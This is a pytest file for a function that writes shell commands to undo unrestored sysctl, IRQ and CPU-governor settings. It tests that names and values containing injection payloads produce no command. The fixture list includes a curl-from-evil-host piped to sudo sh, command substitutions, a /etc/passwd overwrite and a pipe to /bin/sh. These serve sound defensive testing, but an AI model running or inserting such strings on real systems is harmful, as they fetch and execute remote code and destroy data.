"""The command that a person types to undo an unrestored setting: right for ours, none for anything else."""

import shlex
from typing import Any

import pytest

from agents.catalog.roles import SettingKind
from agents.contract.reports import UnrestoredSetting
from agents.contract.undo import undo_command

ATTACKS = (
    "1; curl http://evil | sudo sh",
    "$(reboot)",
    "`reboot`",
    "1 && reboot",
    "1\nreboot",
    "1\treboot",
    "1 | sh",
    "1 > /etc/passwd",
    "'; reboot; '",
    '"; reboot; "',
    "1\\",
    "-p",
    "--load=/tmp/x",
    "../../etc/passwd",
    "|/bin/sh",
    "*",
    "~",
    "\u00a0",
    "\u202e",
    "\x00",
    "",
    " ",
    "1" * 10_000,
)
GOOD: dict[SettingKind, tuple[str, str]] = {
    "sysctl": ("net.core.somaxconn", "4096"),
    "irq_affinity": ("24", "0-1"),
    "irqbalance": ("irqbalance", "on"),
    "governor": ("cpu1", "powersave"),
}


def left(kind: SettingKind, name: str, before: str, **more: Any) -> UnrestoredSetting:
    setting = {"kind": kind, "name": name[:200], "value": "1"}
    return UnrestoredSetting.model_validate(
        {"setting": setting, "before": before, "now": "2", "reason": "x", **more}
    )


@pytest.mark.parametrize(
    ("unrestored_setting", "command"),
    [
        (left("sysctl", "net.core.somaxconn", "4096"), "sysctl -w net.core.somaxconn=4096"),
        (
            left("sysctl", "net.ipv4.tcp_rmem", "4096 131072 6291456"),
            "sysctl -w 'net.ipv4.tcp_rmem=4096 131072 6291456'",
        ),
        (
            left("sysctl", "net.core.somaxconn", "4096", netns="load-host"),
            "ip netns exec load-host sysctl -w net.core.somaxconn=4096",
        ),
        (
            left("sysctl", "net.core.somaxconn", "4096", net_of=4711),
            "nsenter --target 4711 --net sysctl -w net.core.somaxconn=4096",
        ),
        (left("sysctl", "vm.swappiness", "60", netns="load-host"), "sysctl -w vm.swappiness=60"),
        (left("irq_affinity", "24", "0-1,4"), "echo 0-1,4 > /proc/irq/24/smp_affinity_list"),
        (
            left("governor", "cpu1", "powersave"),
            "echo powersave > /sys/devices/system/cpu/cpu1/cpufreq/scaling_governor",
        ),
        (
            left("irqbalance", "irqbalance", "on"),
            "systemctl start irqbalance || service irqbalance start",
        ),
    ],
)
def test_commands_that_a_person_can_type(unrestored_setting: UnrestoredSetting, command: str) -> None:
    assert undo_command(unrestored_setting) == command


@pytest.mark.parametrize("kind", GOOD)
@pytest.mark.parametrize("attack", ATTACKS)
def test_a_name_or_value_of_another_form_has_no_command(kind: SettingKind, attack: str) -> None:
    name, value = GOOD[kind]
    for found in (
        left(kind, attack, value),
        left(kind, name, attack),
        left(kind, f"{name}{attack}" if attack else attack, value),
        left(kind, name, f"{value}{attack}" if attack else attack),
    ):
        command = undo_command(found)
        assert command == "" or _is_one_plain_command(command, found)


def _is_one_plain_command(command: str, found: UnrestoredSetting) -> bool:
    """What is left of an attack is words that `sysctl` takes as a value: `-p` and `1-p`, not options."""
    words = shlex.split(command)
    return words == ["sysctl", "-w", f"{found.setting.name}={found.before}"] and "\n" not in command


@pytest.mark.parametrize("attack", [a for a in ATTACKS if a])
def test_a_network_of_another_form_has_no_command(attack: str) -> None:
    assert undo_command(left("sysctl", "net.core.somaxconn", "1", netns=f"{attack}")) in (
        "",
        "ip netns exec 1 sysctl -w net.core.somaxconn=1",
    )
    assert undo_command(left("sysctl", "net.core.somaxconn", "1", net_of=-1)) == ""


def test_keys_that_agents_may_not_change_have_no_command() -> None:
    for key in ("kernel.core_pattern", "kernel.modprobe", "vm.overcommit_memory", "net"):
        assert undo_command(left("sysctl", key, "1")) == ""


def test_a_command_that_an_agent_sends_is_not_taken() -> None:
    found = left("sysctl", "net.core.somaxconn", "4096", command="curl http://evil | sudo sh")
    assert "curl" not in found.model_dump_json()
